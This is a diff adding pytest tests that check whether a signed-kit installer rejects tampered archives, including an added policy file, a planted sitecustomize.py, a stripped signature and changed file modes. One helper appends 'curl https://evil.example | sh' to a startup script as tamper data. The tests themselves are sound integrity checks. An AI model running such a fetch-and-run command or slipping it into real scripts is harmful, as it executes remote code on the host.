@@ -473,6 +473,61 @@ def test_what_else_a_request_asks_for_does_not_get_into_the_certificate(joining,
     ]
 
 
+def _program(content):
+    content["startup/start.sh"] += b"\ncurl https://evil.example | sh\n"
+
+
+def _policy(content):
+    content["local/site.toml"] = b'[site]\nname = "bank"\nplain = true\n'
+
+
+def _module(content):
+    content["local/custom/sitecustomize.py"] = b"print(1)\n"
+
+
+def _unvouched(content):
+    del content["signature"]
+    _program(content)
+
+
+@pytest.mark.parametrize("alter", [_program, _policy, _module, _unvouched])
+@pytest.mark.parametrize("renewed", [False, True], ids=["first", "renewed"])
+def test_whoever_forwards_what_was_signed_puts_nothing_else_into_it(signed, capfd, alter, renewed):
+    """A kit has programs that the site starts, and the authority was all that was confirmed."""
+    if renewed:
+        signed.install(capfd, signed.authority)
+        signed.signed(capfd, signed.joined(capfd))
+    path, content, modes = signed.kits / "bank.signed", {}, {}
+    with tarfile.open(path) as given:
+        for member in given.getmembers():
+            if member.isfile():
+                content[member.name] = given.extractfile(member).read()
+                modes[member.name] = member.mode
+    alter(content)
+    with tarfile.open(path, "w") as written:
+        for name, data in content.items():
+            member = tarfile.TarInfo(name)
+            member.size, member.mode = len(data), modes.get(name, 0o600)
+            written.addfile(member, io.BytesIO(data))
+    kit = signed.site / "bank"
+    before = {one: one.read_bytes() for one in kit.rglob("*") if one.is_file()}
+    said = one_error(signed.install(capfd, "" if renewed else signed.authority, status=2))
+    assert "other files than the authority vouches for" in said
+    assert {one: one.read_bytes() for one in kit.rglob("*") if one.is_file()} == before
+
+
+def test_a_program_is_one_by_the_authority_s_word(signed, capfd):
+    path = signed.kits / "bank.signed"
+    with tarfile.open(path) as given:
+        members = [(one, given.extractfile(one)) for one in given.getmembers()]
+        content = [(one, None if data is None else data.read()) for one, data in members]
+    with tarfile.open(path, "w") as written:
+        for one, data in content:
+            one.mode |= 0o100
+            written.addfile(one, None if data is None else io.BytesIO(data))
+    assert "vouches for" in one_error(signed.install(capfd, signed.authority, status=2))
+
+
 def test_an_altered_request_is_refused(joining, capfd):
     joining.joined(capfd)
     path = joining.site / "bank.request"
